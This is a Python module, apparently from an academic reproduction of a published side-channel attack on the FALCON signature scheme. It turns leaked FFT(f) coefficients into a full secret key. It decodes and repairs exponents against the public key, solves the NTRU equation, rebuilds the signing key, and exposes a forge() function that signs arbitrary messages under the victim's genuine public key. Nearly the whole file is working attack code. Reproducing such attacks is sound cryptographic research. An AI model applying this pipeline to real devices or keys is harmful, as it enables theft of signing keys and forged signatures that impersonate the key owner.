"""From recovered FFT(f) coefficients to a full signing key and forgeries.

"FALCON's FFT function is reversible and one-to-one" (Section III-A):
once all n secret doubles of FFT(f) are extracted, the inverse FFT gives
f, whose coefficients are small integers (rounding absorbs the float
representation error). Then:

* g = h * f mod q (coefficients recentered; they must be small — this is
  the built-in consistency check),
* (F, G) from the NTRU equation via the same NTRUSolve the key owner ran,
* the FALCON tree is rebuilt, and the adversary signs arbitrary messages
  that verify under the victim's genuine public key.
"""

from __future__ import annotations

import contextlib
import heapq
import math
import pickle
import time
import weakref
from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
from dataclasses import dataclass, field
from typing import Callable

import numpy as np

from repro.attack.config import AttackConfig
from repro.attack.coefficient import CoefficientRecovery, recover_coefficient
from repro.attack.sign_exp import fft_f_exponent_scale
from repro.falcon.keygen import PublicKey, SecretKey, derive_secret_key
from repro.falcon.ntru_solve import NtruSolveError, ntru_solve
from repro.falcon.sign import Signature, sign
from repro.leakage.capture import doubles_to_fft
from repro.math import fft, ntt
from repro.obs import metrics, spans
from repro.obs.metrics import MetricsSnapshot
from repro.obs.spans import span
from repro.targets import DEFAULT_TARGET, get_target

__all__ = [
    "KeyRecoveryError",
    "KeyRecoveryResult",
    "CoefficientRecord",
    "ProgressEvent",
    "recover_f",
    "recover_g_from_public",
    "repair_exponents",
    "recover_coefficients",
    "recover_full_key",
    "rebuild_signing_key",
    "forge",
]

#: |g| coefficients beyond this mean the recovered f is inconsistent
#: with the public key (keygen Gaussians never reach it).
_G_PLAUSIBLE_BOUND = 1 << 10

#: The furthest invFFT of the recovered doubles may sit from integers.
_MAX_DRIFT = 0.4

#: The key decoder's budget of states, the coordinates it swaps per state
#: (largest residual projection first), and the exponent ranks per double
#: in its candidate lists.
_DECODE_POPS = 2048
_DECODE_COORDS = 64
_DECODE_EXPONENTS = 12


class KeyRecoveryError(RuntimeError):
    """The recovered coefficients are inconsistent with the public key.

    ``coefficients``/``records`` carry whatever per-coefficient evidence
    existed when the failure was detected, so callers can report a failed
    campaign without losing its measurements.
    """

    def __init__(
        self,
        message: str,
        coefficients: list[CoefficientRecovery] | None = None,
        records: "list[CoefficientRecord] | None" = None,
    ):
        super().__init__(message)
        self.coefficients = coefficients or []
        self.records = records or []


@dataclass
class CoefficientRecord:
    """Observability record for one per-coefficient attack.

    Collected by :func:`recover_coefficients` whether the campaign runs
    serially or fanned out over worker processes; timing is measured
    inside the worker, so parallel records show true per-target cost.
    """

    target_index: int
    elapsed_seconds: float
    n_traces_requested: int
    n_traces_kept: tuple[int, ...]       # actual correlated rows per segment
    correct: bool | None                 # None when no ground truth (real bench)
    sign_margin: float = 0.0
    exponent_margin: float = 0.0
    mantissa_margin: float = 0.0

    @property
    def n_traces_used(self) -> int:
        return sum(self.n_traces_kept)


@dataclass
class ProgressEvent:
    """One structured progress notification from the attack engine.

    ``stage`` is ``"coefficient"`` while per-target attacks complete
    (``record`` is set), then ``"repair"``/``"rebuild"`` for the global
    algebra. ``completed``/``total`` count units within the stage.
    """

    stage: str
    completed: int
    total: int
    record: CoefficientRecord | None = None
    message: str = ""


ProgressCallback = Callable[[ProgressEvent], None]


def _notifier(journal, callback: ProgressCallback | None) -> ProgressCallback:
    """One event sink feeding the journal and the caller's callback."""
    def notify(event: ProgressEvent) -> None:
        if journal is not None:
            journal.emit_progress(event)
        if callback is not None:
            callback(event)
    return notify


@dataclass
class KeyRecoveryResult:
    """Outcome of a full-key campaign.

    ``recovered_sk`` is ``None`` when the campaign failed before a
    consistent key could be rebuilt (the per-coefficient evidence is
    still in ``coefficients``/``records``). Surfaces whose secret is
    not key material (``has_forgery`` False, e.g. ``samplerz``) leave
    the key fields empty and deliver ``recovered_values`` instead —
    for samplerz, the per-call ffSampling sampler outputs.
    """

    f: list[int]
    g: list[int]
    big_f: list[int]
    big_g: list[int]
    recovered_sk: SecretKey | None
    coefficients: list[CoefficientRecovery] = field(repr=False, default_factory=list)
    records: list[CoefficientRecord] = field(repr=False, default_factory=list)
    recovered_values: list[int] | None = None

    @property
    def succeeded(self) -> bool:
        return self.recovered_sk is not None or self.recovered_values is not None

    @property
    def n_correct_coefficients(self) -> int:
        return sum(1 for c in self.coefficients if c.correct)

    @property
    def n_traces_correlated(self) -> int:
        """Total rows that actually entered the CPA, summed over targets."""
        return sum(r.n_traces_used for r in self.records)


def repair_exponents(  # sast: declassify(reason=attacker-side key decoder over recovered candidate patterns; not victim code)
    candidates: list[list[int]], pk: PublicKey
) -> tuple[list[int], list[int], list[int]]:
    """The key decoder: one pattern per double such that f and g pass ``pk``.

    ``candidates[j]`` lists plausible fpr patterns for double j, the
    recovered pattern first. A wrong double smears a non-integral residue
    over all of f = invFFT(v). Best-first search over one choice per
    double, from the recovered patterns, ordered by the squared distance
    from f to the integer vectors keygen allows plus n/12 (a random
    residual's expected cost) per double moved off its recovered
    pattern, so a lucky residual does not outbid fewer moves. A state's
    neighbours are its single-coordinate swaps over the
    :data:`_DECODE_COORDS` coordinates with the largest residual
    projection onto the orthogonal invFFT columns; each costs one O(n)
    column update. A state is accepted only when :func:`recover_f` and
    :func:`recover_g_from_public` pass, so the public key rejects
    integral but spurious choices and the search goes on.

    Returns ``(patterns, f, g)``; raises :class:`KeyRecoveryError`, naming
    the likeliest culprits, after :data:`_DECODE_POPS` states.
    """
    n = len(candidates)
    # f = mat @ doubles; column j is invFFT of the unit double j, and the
    # columns are orthogonal (the FFT is unitary).
    mat = np.stack([fft.ifft(doubles_to_fft(unit)) for unit in np.eye(n)], axis=1)
    vals = [np.array(c, dtype=np.uint64).view(np.float64) for c in candidates]
    # Keygen rejects ||(f, g)||^2 > 1.17^2 q, so every |f_i| <= 1.17 sqrt(q).
    box = math.floor(1.17 * math.sqrt(pk.params.q))
    # Lazy best-first: entry (cost, state, rank) is the rank-th cheapest
    # neighbour of expanded state ``state`` (-1: the start).
    heap: list[tuple[float, int, int]] = [(0.0, -1, 0)]
    expanded: list[tuple[tuple[int, ...], np.ndarray, np.ndarray, np.ndarray]] = []
    seen: set[tuple[int, ...]] = set()
    while heap and len(seen) < _DECODE_POPS:
        _, state, rank = heapq.heappop(heap)
        if state < 0:
            choice = (0,) * n
        else:
            parent, costs, coords, picks = expanded[state]
            if rank + 1 < len(costs):
                heapq.heappush(heap, (costs[rank + 1], state, rank + 1))
            j = int(coords[rank])
            choice = parent[:j] + (int(picks[rank]),) + parent[j + 1:]
        if choice in seen:
            continue
        seen.add(choice)
        f = mat @ np.array([vals[j][c] for j, c in enumerate(choice)])
        resid = f - np.clip(np.round(f), -box, box)
        if float(np.max(np.abs(resid))) <= _MAX_DRIFT:
            patterns = [candidates[j][c] for j, c in enumerate(choice)]
            with contextlib.suppress(KeyRecoveryError):
                f_int = recover_f(patterns)
                return patterns, f_int, recover_g_from_public(f_int, pk)
        order = np.argsort(-np.abs(mat.T @ resid), kind="stable")[:_DECODE_COORDS]
        coords = np.concatenate([np.full(len(vals[j]), j) for j in order])
        picks = np.concatenate([np.arange(len(vals[j])) for j in order])
        deltas = np.concatenate([vals[j] - vals[j][choice[j]] for j in order])
        trial = f[:, None] + mat[:, coords] * deltas
        trial -= np.clip(np.round(trial), -box, box)
        moves = sum(c != 0 for c in choice) + (np.asarray(choice)[coords] == 0) - (picks == 0)
        costs = np.where(deltas != 0, np.einsum("ij,ij->j", trial, trial) + n / 12 * moves, np.inf)
        by_cost = np.argsort(costs, kind="stable")[: np.count_nonzero(deltas)]
        if len(by_cost):
            expanded.append((choice, costs[by_cost], coords[by_cost], picks[by_cost]))
            heapq.heappush(heap, (costs[by_cost[0]], len(expanded) - 1, 0))
    suspects = _erasure_suspects(mat, np.array([v[0] for v in vals]), box, pk.params)
    raise KeyRecoveryError(
        f"no candidate choice passed the public key in {len(seen)} decoder states; "
        f"suspect coefficients, most likely first: {', '.join(map(str, suspects[:3]))}"
    )


def _erasure_suspects(mat: np.ndarray, v: np.ndarray, box: int, params) -> list[int]:
    """Doubles ordered by how close to integral f gets when each alone is
    freed to any value t in the magnitude band (t scanned so the column's
    largest entry lands on an integer)."""
    span = 2.0 ** (fft_f_exponent_scale(params) - 1023 + 6)
    cost = []
    for j, col in enumerate(mat.T):
        rest, i = mat @ v - v[j] * col, int(np.argmax(np.abs(col)))
        reach = span * abs(col[i])
        k = np.arange(np.ceil(rest[i] - reach), np.floor(rest[i] + reach) + 1)
        trial = rest[:, None] + np.outer(col, (k - rest[i]) / col[i])
        cost.append(np.min(np.sum((trial - np.clip(np.round(trial), -box, box)) ** 2, axis=0)))
    return [int(j) for j in np.argsort(cost, kind="stable")]


def recover_f(patterns: list[int]) -> list[int]:  # sast: declassify(reason=attacker-side decode of extracted bit patterns into key candidates)
    """Invert the FFT on recovered fpr patterns and round to integers.

    ``patterns`` holds the n recovered doubles in capture order
    (Re/Im interleaved per FFT slot).
    """
    doubles = np.array([np.uint64(p) for p in patterns], dtype=np.uint64).view(np.float64)
    f_fft = doubles_to_fft(doubles)
    coeffs = fft.ifft(f_fft)
    f_int = [int(round(v)) for v in coeffs]
    drift = float(np.max(np.abs(coeffs - np.array(f_int, dtype=np.float64))))
    if drift > _MAX_DRIFT:
        raise KeyRecoveryError(
            f"inverse FFT is {drift:.3f} away from integers — recovery is corrupt"
        )
    # A grossly wrong exponent can make f astronomically large while
    # still float-"integral" (big doubles have no fractional part);
    # genuine keygen coefficients are a few hundred at most.
    largest = max(abs(c) for c in f_int)
    if largest > 1 << 12:
        raise KeyRecoveryError(
            f"recovered f has coefficient magnitude {largest} — recovery is corrupt"
        )
    return f_int


def recover_g_from_public(f: list[int], pk: PublicKey) -> list[int]:  # sast: declassify(reason=attacker-side arithmetic g = f*h mod q on recovered values)
    """g = h * f mod q with centered coefficients (h = g f^-1 mod q)."""
    q = pk.params.q
    g_mod = ntt.mul_ntt([c % q for c in f], pk.h, q)
    g = [v - q if v > q // 2 else v for v in g_mod]
    if max(abs(v) for v in g) > _G_PLAUSIBLE_BOUND:
        raise KeyRecoveryError(
            "h * f mod q is not small — the recovered f does not match this public key"
        )
    return g


def _filter_by_magnitude(patterns: list[int], params) -> list[int]:
    """Drop candidates whose magnitude is physically implausible.

    An FFT(f) double has RMS sqrt(n/2) * sigma_fg (public). A sum of n
    terms cannot exceed that by more than a couple of octaves (6
    allowed), but cancellation can make it tiny (13 below, rarely more).
    The band only shrinks the decoder's search, since the public key
    verifies every accepted choice, so the recovered pattern (first) is
    kept whatever its band.
    """
    center = fft_f_exponent_scale(params)
    return patterns[:1] + [p for p in patterns[1:] if -13 <= ((p >> 52) & 0x7FF) - center <= 6]


# -- parallel per-coefficient engine --------------------------------------
#
# Workers receive the trace source once (via the pool initializer; a
# CaptureCampaign's cached corpus is stripped on pickle and rebuilt lazily
# per worker, a CampaignStore pickles as its path and re-opens its memmaps)
# and then only exchange target indices and results. Every target derives
# its own capture RNG from (device.seed, campaign.seed, target_index), so
# the recovered patterns are bit-identical regardless of worker count or
# completion order. The distinguisher is built — and, for the profiled
# ones, fitted — exactly once in the parent and shipped to every worker,
# so serial, parallel, and resumed runs share one set of models.

_WORKER_STATE: dict = {}


def _init_worker(source, config: AttackConfig, distinguisher) -> None:
    _WORKER_STATE["source"] = source
    _WORKER_STATE["config"] = config
    _WORKER_STATE["distinguisher"] = distinguisher
    # Under the fork start method workers inherit the parent's metrics
    # stack and open spans; reset so each worker accounts from zero.
    metrics._reset_state()
    spans._reset_state()


def _attack_target(
    source, cfg: AttackConfig, target_index: int, distinguisher=None
) -> tuple[CoefficientRecovery, CoefficientRecord, MetricsSnapshot, list[spans.Span]]:
    """Capture + per-target recovery for one target (the worker body).

    The surface object (:mod:`repro.targets`, resolved from the
    source's ``target``) supplies the recovery engine and the
    observability record; for the default fpr-mul surface that is
    exactly :func:`~repro.attack.coefficient.recover_coefficient` plus
    the record layout below it always had.

    Runs inside a scoped metrics registry and a detached span context,
    so the returned ``(snapshot, roots)`` telemetry is exactly this
    target's — whether the body ran in-process or in a pool worker —
    and the parent performs the single merge/attach either way.
    """
    start = time.perf_counter()
    surface = get_target(getattr(source, "target", DEFAULT_TARGET))
    with metrics.scoped_registry() as reg, spans.detached() as roots:
        with span("coefficient", target=target_index):
            ts = source.capture(target_index)
            rec = surface.recover(ts, cfg, distinguisher=distinguisher)
    record = surface.make_record(
        rec, ts, time.perf_counter() - start, source.n_traces
    )
    return rec, record, reg.snapshot(), roots


def _attack_one(
    target_index: int,
) -> tuple[CoefficientRecovery, CoefficientRecord, MetricsSnapshot, list[spans.Span]]:
    return _attack_target(
        _WORKER_STATE["source"],
        _WORKER_STATE["config"],
        target_index,
        distinguisher=_WORKER_STATE["distinguisher"],
    )


def _resolve_distinguisher(source, cfg: AttackConfig):
    """Build (and profile, when needed) the config-selected distinguisher."""
    from repro.attack.distinguisher import (
        distinguisher_from_config,
        profile_distinguisher,
    )

    dist = distinguisher_from_config(cfg)
    return profile_distinguisher(dist, source, cfg)


def recover_coefficients(
    campaign,
    config: AttackConfig | None = None,
    progress_callback: ProgressCallback | None = None,
    session=None,
    distinguisher=None,
    journal=None,
) -> tuple[list[CoefficientRecovery], list[CoefficientRecord]]:
    """Attack every secret double, serially or fanned out over processes.

    ``campaign`` is any :class:`~repro.leakage.store.TraceSource` — a
    live :class:`~repro.leakage.capture.CaptureCampaign` or a
    disk-backed :class:`~repro.leakage.store.CampaignStore`.

    ``config.n_workers > 1`` runs one capture+DEMA per target on a
    :class:`~concurrent.futures.ProcessPoolExecutor`; the returned lists
    are always in target order and bit-identical to the serial path.
    Sources that cannot be pickled (e.g. a closure ``value_transform``)
    fall back to the serial path.

    ``session`` (an :class:`~repro.attack.session.AttackSession`) makes
    the campaign resumable: each finished target is checkpointed
    atomically, already-checkpointed targets are replayed from disk, and
    an interrupted run — including KeyboardInterrupt mid-fan-out —
    resumes to a bit-identical result.

    ``distinguisher`` overrides the config-selected engine with an
    already-built (and, if profiled, already-fitted) instance.

    ``journal`` (a :class:`~repro.obs.journal.RunJournal`) receives a
    ``progress`` event per finished target plus that target's span tree.
    """
    cfg = config or AttackConfig()
    total = campaign.n_targets
    if session is not None:
        session.bind(campaign, cfg)
    if distinguisher is None:
        distinguisher = _resolve_distinguisher(campaign, cfg)
    recs: list[CoefficientRecovery | None] = [None] * total
    records: list[CoefficientRecord | None] = [None] * total
    done = 0
    _notify = _notifier(journal, progress_callback)

    if session is not None:
        for j, (rec, record) in session.completed().items():
            if 0 <= j < total and recs[j] is None:
                recs[j], records[j] = rec, record
                done += 1
                metrics.inc("session.checkpoints_restored", 1)
                _notify(
                    ProgressEvent(
                        "coefficient", done, total, record=record,
                        message="restored from checkpoint",
                    )
                )
    todo = [j for j in range(total) if recs[j] is None]
    n_workers = min(cfg.n_workers, max(len(todo), 1))
    if n_workers > 1 and not (_picklable(campaign) and _picklable(distinguisher)):
        n_workers = 1

    def _finish(j: int, result: tuple) -> None:
        nonlocal done
        rec, record, snap, roots = result
        recs[j], records[j] = rec, record
        # The single telemetry merge: worker (or scoped in-process) metrics
        # fold into the caller's registry, span trees graft into the
        # caller's open span — identical accounting in both execution modes.
        metrics.current_registry().merge_snapshot(snap)
        for root in roots:
            spans.attach(root)
            if journal is not None:
                journal.emit_span(root, target=j)
        if session is not None:
            session.record(j, rec, record)
        done += 1
        _notify(ProgressEvent("coefficient", done, total, record=record))

    if n_workers <= 1:
        for j in todo:
            _finish(j, _attack_target(campaign, cfg, j, distinguisher=distinguisher))
    else:
        with ProcessPoolExecutor(
            max_workers=n_workers,
            initializer=_init_worker,
            initargs=(campaign, cfg, distinguisher),
        ) as pool:
            pending = {pool.submit(_attack_one, j): j for j in todo}
            try:
                while pending:
                    finished, _ = wait(set(pending), return_when=FIRST_COMPLETED)
                    # One raising future must not discard its siblings:
                    # several targets routinely land in one wait() batch,
                    # and every successful sibling is real finished work
                    # whose checkpoint a resume would otherwise redo.
                    # Record all successes first, then surface the error.
                    failure: BaseException | None = None
                    for fut in finished:
                        j = pending.pop(fut)
                        try:
                            result = fut.result()
                        except BaseException as exc:
                            if failure is None:
                                failure = exc
                            continue
                        _finish(j, result)
                    if failure is not None:
                        raise failure
            except BaseException:
                # Cancel queued targets we'd only throw away, then drain
                # the in-flight ones: their processes keep running until
                # the `with` block joins them anyway, so waiting here is
                # free — and every drained success is a checkpoint a
                # resume won't have to recompute. Futures must be
                # cancelled one by one: shutdown(cancel_futures=True)
                # cancels on the executor's management thread without
                # notifying waiters, so wait()ing on those futures
                # deadlocks.
                for fut in list(pending):
                    if fut.cancel():
                        del pending[fut]
                drained, _ = wait(set(pending))
                for fut in drained:
                    j = pending.pop(fut)
                    try:
                        result = fut.result()
                    except BaseException:
                        continue
                    try:
                        _finish(j, result)
                    except BaseException:
                        # _finish checkpoints before notifying; a callback
                        # raising here must not mask the original error.
                        continue
                raise
    return recs, records


class _NullSink:
    """A write-only sink that discards everything (picklability probes)."""

    def write(self, blob) -> int:
        return len(blob)


#: id(obj) -> (weakref guarding id reuse, verdict). Probing pickles the
#: whole object graph; for a paper-scale campaign that is GBs of traces,
#: so the verdict is cached per object. The weakref both invalidates the
#: entry when the object dies and guards against id() reuse afterwards.
_PICKLE_PROBES: dict[int, tuple] = {}


def _picklable(obj) -> bool:
    key = id(obj)
    cached = _PICKLE_PROBES.get(key)
    if cached is not None and cached[0]() is obj:
        return cached[1]
    try:
        # Stream to a null sink: same traversal pickle.dumps would do,
        # without materializing a multi-GB throwaway byte string.
        pickle.Pickler(_NullSink(), protocol=pickle.HIGHEST_PROTOCOL).dump(obj)
        verdict = True
    except Exception:
        verdict = False
    try:
        ref = weakref.ref(obj, lambda _r, _k=key: _PICKLE_PROBES.pop(_k, None))
    except TypeError:
        return verdict  # not weakref-able (e.g. a plain tuple); skip caching
    _PICKLE_PROBES[key] = (ref, verdict)
    return verdict


def recover_full_key(
    campaign,
    pk: PublicKey,
    config: AttackConfig | None = None,
    progress_callback: ProgressCallback | None = None,
    session=None,
    journal=None,
) -> KeyRecoveryResult:
    """Attack every target of the campaign's surface, then rebuild.

    For the default fpr-mul surface that means: attack every secret
    double, then rebuild the entire signing key
    (:func:`rebuild_signing_key`). Other surfaces plug in their own
    campaign-level rebuild — e.g. ``samplerz`` assembles the recovered
    ffSampling sampler transcript into
    :attr:`KeyRecoveryResult.recovered_values`.

    ``campaign`` is any :class:`~repro.leakage.store.TraceSource` (live
    campaign or disk-backed store). ``session`` makes the per-coefficient
    phase resumable across interrupted runs. ``progress_callback``
    receives structured :class:`ProgressEvent` notifications. On
    failure the raised :class:`KeyRecoveryError` carries the
    per-coefficient evidence. ``journal`` receives the structured event
    stream (see :func:`recover_coefficients`); console progress is a
    :func:`~repro.obs.journal.console_subscriber` on that journal.
    """
    with span("coefficients"):
        recs, records = recover_coefficients(
            campaign, config, progress_callback=progress_callback, session=session,
            journal=journal,
        )
    surface = get_target(getattr(campaign, "target", DEFAULT_TARGET))
    return surface.rebuild(recs, records, pk, _notifier(journal, progress_callback))


def rebuild_signing_key(
    recs: list[CoefficientRecovery],
    records: list[CoefficientRecord],
    pk: PublicKey,
    _notify: ProgressCallback,
) -> KeyRecoveryResult:
    """The fpr-mul campaign-level rebuild: recovered doubles -> signing key.

    The key decoder (:func:`repair_exponents`) picks f and g, verified
    by the public key, then NTRUSolve completes (F, G). The ``repair``
    progress message lists the decoder's moves (``coef j: 0x… → 0x…``)
    or ``none``. On failure the raised :class:`KeyRecoveryError` carries
    the per-coefficient evidence.
    """
    try:
        with span("rebuild"):
            with span("repair"):
                candidates = [
                    _filter_by_magnitude(r.candidate_patterns(_DECODE_EXPONENTS), pk.params)
                    for r in recs
                ]
                patterns, f, g = repair_exponents(candidates, pk)
            moves = "; ".join(
                f"coef {j}: {r.pattern:#018x} → {p:#018x}"
                for j, (r, p) in enumerate(zip(recs, patterns)) if p != r.pattern
            )
            _notify(ProgressEvent("repair", 1, 1, message=moves or "none"))
            _notify(ProgressEvent("rebuild", 0, 1, message="solving NTRU equation"))
            try:
                big_f, big_g = ntru_solve(f, g, pk.params.q)
            except NtruSolveError as exc:
                raise KeyRecoveryError(
                    f"NTRU completion failed on recovered (f, g): {exc}"
                ) from exc
    except KeyRecoveryError as exc:
        exc.coefficients = recs
        exc.records = records
        raise
    sk = derive_secret_key(pk.params, f, g, big_f, big_g, h=list(pk.h))
    return KeyRecoveryResult(
        f=f, g=g, big_f=big_f, big_g=big_g, recovered_sk=sk,
        coefficients=recs, records=records,
    )


def forge(result: KeyRecoveryResult, message: bytes, seed: bytes | int | None = None) -> Signature:
    """Sign an arbitrary message with the *recovered* key."""
    return sign(result.recovered_sk, message, seed=seed)
